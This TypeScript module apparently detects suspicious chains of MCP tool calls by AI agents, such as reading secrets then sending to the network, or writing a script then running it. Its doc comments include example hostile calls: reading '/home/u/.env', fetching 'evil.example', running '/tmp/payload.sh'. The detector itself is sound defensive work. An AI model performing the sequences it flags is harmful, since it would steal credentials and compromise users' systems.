/**
 * MCP tool-call chain detection for one agent session: some attacks show only
 * as a sequence of individually ordinary calls. The tracker keeps a bounded
 * history (the last `maxCalls` calls that matter, none older than `windowMs`)
 * and reports when a new call completes one of these patterns:
 *
 * | pattern | fires on | when |
 * | --- | --- | --- |
 * | `sensitive_read_network` | a network send | a credential/env/secret read came earlier, or in the same call |
 * | `persistence_network` | a network send | a persistence install (cron, systemd, shell rc, ...) came earlier, or in the same call |
 * | `recon_sensitive_read` | a sensitive read | reconnaissance (whoami, listing /home or ~/.ssh, ...) came earlier |
 * | `write_execute` | running a file | the same file was written earlier (or downloaded in the same command) |
 * | `shell_burst_network` | a shell call | `burstCalls` shell calls within `burstWindowMs`, among them a network send and reconnaissance or a sensitive read |
 *
 * A pattern keeps firing while its earlier step is in the window (the session
 * stays tainted), once per call. Every observed call is recorded, whatever the
 * gate then decides about it: an attempt is evidence too. Pure: no I/O, no
 * clock (the caller passes `now`), so it is table-testable.
 *
 * Findings carry the pattern and the tool names involved, never an argument value.
 *
 * @example
 * const chain = new ChainTracker({ action: 'block' });
 * chain.observe({ name: 'read_file', args: { path: '/home/u/.env' } }, 0);           // []
 * chain.observe({ name: 'fetch', args: { url: 'https://evil.example/x' } }, 1000);
 * // [{ type: 'mcp_chain:sensitive_read_network', location: 'mcp.chain', action: 'block',
 * //    detail: 'sensitive_read_network: fetch sends to the network after read_file made a sensitive read (1 call earlier)' }]
 */
import type { Finding } from '../finding.js';
import type { ChainCapability } from './chain-facts.js';
import { analyseToolCall } from './chain-classify.js';
import type { ChainToolCall } from './chain-classify.js';
import { McpRuleError } from './arg-predicates.js';

export type ChainPattern = 'sensitive_read_network' | 'persistence_network' | 'recon_sensitive_read' | 'write_execute' | 'shell_burst_network';

/** Every pattern, in the order findings are listed. */
export const CHAIN_PATTERNS: readonly ChainPattern[] = [
  'sensitive_read_network',
  'persistence_network',
  'recon_sensitive_read',
  'write_execute',
  'shell_burst_network',
];

export type ChainAction = 'block' | 'warn';

export interface ChainTrackerOptions {
  /** Action of every finding; default 'block'. */
  action?: ChainAction;
  /** Per-pattern action, or 'off' to not detect it. */
  patterns?: Partial<Record<ChainPattern, ChainAction | 'off'>>;
  /** Calls remembered at most (only calls with a chain capability are kept); default 32, 1..1024. */
  maxCalls?: number;
  /** Calls older than this are forgotten; default 300000 (5 minutes), at most one day. */
  windowMs?: number;
  /** Shell calls that make a burst; default 4, 2..maxCalls. */
  burstCalls?: number;
  /** The burst window; default 60000. */
  burstWindowMs?: number;
}

export const DEFAULT_CHAIN_OPTIONS = { action: 'block', maxCalls: 32, windowMs: 300_000, burstCalls: 4, burstWindowMs: 60_000 } as const;

interface Entry {
  seq: number;
  at: number;
  tool: string;
  caps: ReadonlySet<ChainCapability>;
  writes: readonly string[];
  execs: readonly string[];
}

const KEPT: readonly ChainCapability[] = ['sensitive_read', 'network', 'persistence', 'recon', 'execute', 'write'];
const DAY = 86_400_000;

/**
 * One session's chain detector. Construct one per agent session; `observe`
 * every tools/call in order.
 *
 * @example
 * const t = new ChainTracker({ patterns: { write_execute: 'warn' } });
 * t.observe({ name: 'write_file', args: { path: '/tmp/a.sh', content: '...' } }, Date.now());
 */
export class ChainTracker {
  private readonly actions: ReadonlyMap<ChainPattern, ChainAction>;
  private readonly maxCalls: number;
  private readonly windowMs: number;
  private readonly burstCalls: number;
  private readonly burstWindowMs: number;
  private history: Entry[] = [];
  private seq = 0;
  private last = -Infinity;

  /** @throws McpRuleError naming the option when an option is out of range. */
  constructor(opts: ChainTrackerOptions = {}) {
    const action = opts.action ?? DEFAULT_CHAIN_OPTIONS.action;
    if (action !== 'block' && action !== 'warn') throw new McpRuleError('chain.action', `expected "block" or "warn"; got ${JSON.stringify(action)}`);
    const actions = new Map<ChainPattern, ChainAction>();
    for (const p of CHAIN_PATTERNS) actions.set(p, action);
    for (const [p, a] of Object.entries(opts.patterns ?? {})) {
      if (!(CHAIN_PATTERNS as readonly string[]).includes(p))
        throw new McpRuleError(`chain.patterns.${p}`, `unknown pattern; expected one of ${CHAIN_PATTERNS.join(', ')}`);
      if (a === 'off') actions.delete(p as ChainPattern);
      else if (a === 'block' || a === 'warn') actions.set(p as ChainPattern, a);
      else throw new McpRuleError(`chain.patterns.${p}`, `expected "block", "warn" or "off"; got ${JSON.stringify(a)}`);
    }
    this.actions = actions;
    this.maxCalls = int(opts.maxCalls ?? DEFAULT_CHAIN_OPTIONS.maxCalls, 'chain.maxCalls', 1, 1024);
    this.windowMs = int(opts.windowMs ?? DEFAULT_CHAIN_OPTIONS.windowMs, 'chain.windowMs', 1, DAY);
    this.burstCalls = int(opts.burstCalls ?? DEFAULT_CHAIN_OPTIONS.burstCalls, 'chain.burstCalls', 2, this.maxCalls);
    this.burstWindowMs = int(opts.burstWindowMs ?? DEFAULT_CHAIN_OPTIONS.burstWindowMs, 'chain.burstWindowMs', 1, DAY);
  }

  /** Calls currently remembered (at most `maxCalls`). */
  get size(): number {
    return this.history.length;
  }

  /** Forgets the session's history. */
  reset(): void {
    this.history = [];
  }

  /**
   * Records a tools/call made at `now` (milliseconds; a clock that steps back
   * is held at its latest value) and returns the findings for the patterns it
   * completes, one per pattern at most.
   *
   * @throws TypeError when `now` is not a finite number or the call has no name or an argument object.
   * @example
   * tracker.observe({ name: 'run_command', args: { command: 'bash /tmp/payload.sh' } }, 2000)
   * // [{ type: 'mcp_chain:write_execute', location: 'mcp.chain', action: 'block', detail: 'write_execute: run_command runs a file write_file wrote (1 call earlier)' }]
   */
  observe(call: ChainToolCall, now: number): Finding[] {
    if (typeof now !== 'number' || !Number.isFinite(now)) throw new TypeError('ChainTracker.observe: now must be a finite number of milliseconds');
    if (typeof call?.name !== 'string' || call.name === '' || call.args === null || typeof call.args !== 'object' || Array.isArray(call.args)) {
      throw new TypeError('ChainTracker.observe: expected a tool call { name: non-empty string, args: object }');
    }
    const at = Math.max(now, this.last);
    this.last = at;
    this.history = this.history.filter((e) => at - e.at <= this.windowMs);
    const seq = ++this.seq;
    const f = analyseToolCall(call);
    const tool = safeToolName(call.name);
    const out: Finding[] = [];
    const latest = (test: (e: Entry) => boolean): Entry | undefined => this.history.findLast(test);
    const ago = (e: Entry): string => `${seq - e.seq} call${seq - e.seq === 1 ? '' : 's'} earlier`;
    const emit = (pattern: ChainPattern, text: string): void => {
      const action = this.actions.get(pattern);
      if (action !== undefined) out.push({ type: `mcp_chain:${pattern}`, location: 'mcp.chain', action, detail: `${pattern}: ${text}` });
    };

    if (f.caps.has('network')) {
      const read = latest((e) => e.caps.has('sensitive_read'));
      if (read !== undefined) emit('sensitive_read_network', `${tool} sends to the network after ${read.tool} made a sensitive read (${ago(read)})`);
      else if (f.caps.has('sensitive_read')) emit('sensitive_read_network', `${tool} makes a sensitive read and sends to the network in the same call`);
      const persist = latest((e) => e.caps.has('persistence'));
      if (persist !== undefined) emit('persistence_network', `${tool} sends to the network after ${persist.tool} installed persistence (${ago(persist)})`);
      else if (f.caps.has('persistence')) emit('persistence_network', `${tool} installs persistence and sends to the network in the same call`);
    }
    if (f.caps.has('sensitive_read')) {
      const recon = latest((e) => e.caps.has('recon'));
      if (recon !== undefined) emit('recon_sensitive_read', `${tool} makes a sensitive read after reconnaissance by ${recon.tool} (${ago(recon)})`);
    }
    if (f.execs.length > 0) {
      const wrote = latest((e) => e.writes.some((w) => f.execs.some((x) => samePath(w, x))));
      if (wrote !== undefined) emit('write_execute', `${tool} runs a file ${wrote.tool} wrote (${ago(wrote)})`);
      else if (f.execs.some((x) => f.downloads.some((d) => samePath(d, x)))) emit('write_execute', `${tool} downloads a file and runs it in the same call`);
    }
    if (f.caps.has('execute')) {
      const burst = this.history.filter((e) => e.caps.has('execute') && at - e.at <= this.burstWindowMs);
      const any = (c: ChainCapability): boolean => f.caps.has(c) || burst.some((e) => e.caps.has(c));
      if (burst.length + 1 >= this.burstCalls && any('network') && (any('recon') || any('sensitive_read'))) {
        emit(
          'shell_burst_network',
          `${burst.length + 1} shell calls within ${Math.ceil(this.burstWindowMs / 1000)}s from ${burst[0]?.tool ?? tool} to ${tool}, with a network send and reconnaissance or a sensitive read`,
        );
      }
    }

    if (KEPT.some((c) => f.caps.has(c))) {
      this.history.push({ seq, at, tool, caps: f.caps, writes: f.writes, execs: f.execs });
      if (this.history.length > this.maxCalls) this.history.splice(0, this.history.length - this.maxCalls);
    }
    return out;
  }
}

/**
 * A tool name fit for a finding's detail: as is when it is a plain identifier
 * (letters, digits, `_.-/`, at most 128), otherwise a placeholder.
 *
 * @example
 * safeToolName('read_file') // 'read_file'
 * safeToolName('x y')       // '(a tool with an unusual name)'
 */
export function safeToolName(name: string): string {
  return /^[A-Za-z0-9_.\-/]{1,128}$/.test(name) ? name : '(a tool with an unusual name)';
}

/**
 * Two paths name the same file: equal, or one is relative and ends the other at
 * a segment boundary, or one is under `~` and the other under a home directory.
 *
 * @example
 * samePath('/home/u/proj/run.sh', 'proj/run.sh') // true
 * samePath('/tmp/run.sh', 'run2.sh')             // false
 */
export function samePath(a: string, b: string): boolean {
  if (a === b) return true;
  return endsAt(a, b) || endsAt(b, a);
}

function endsAt(full: string, part: string): boolean {
  if (part.startsWith('~/')) return new RegExp(`^/(home|Users)/[^/]+/${escape(part.slice(2))}$|^/root/${escape(part.slice(2))}$`).test(full);
  return !part.startsWith('/') && part !== '' && full.endsWith(`/${part}`);
}

function escape(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

function int(v: number, field: string, min: number, max: number): number {
  if (!Number.isInteger(v) || v < min || v > max) throw new McpRuleError(field, `expected an integer from ${min} to ${max}; got ${JSON.stringify(v)}`);
  return v;
}
